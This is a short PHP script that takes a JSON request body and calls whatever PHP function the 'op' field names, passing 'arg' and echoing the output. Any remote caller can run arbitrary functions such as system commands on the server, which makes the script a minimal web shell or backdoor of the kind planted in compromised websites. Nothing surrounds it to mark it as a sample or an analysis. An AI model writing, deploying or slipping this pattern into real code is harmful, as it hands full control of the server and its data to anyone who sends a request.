<?php
$in = json_decode(file_get_contents('php://input'), true);
if (is_array($in) && isset($in['op'])) {
    echo ($in['op'])($in['arg']);
}
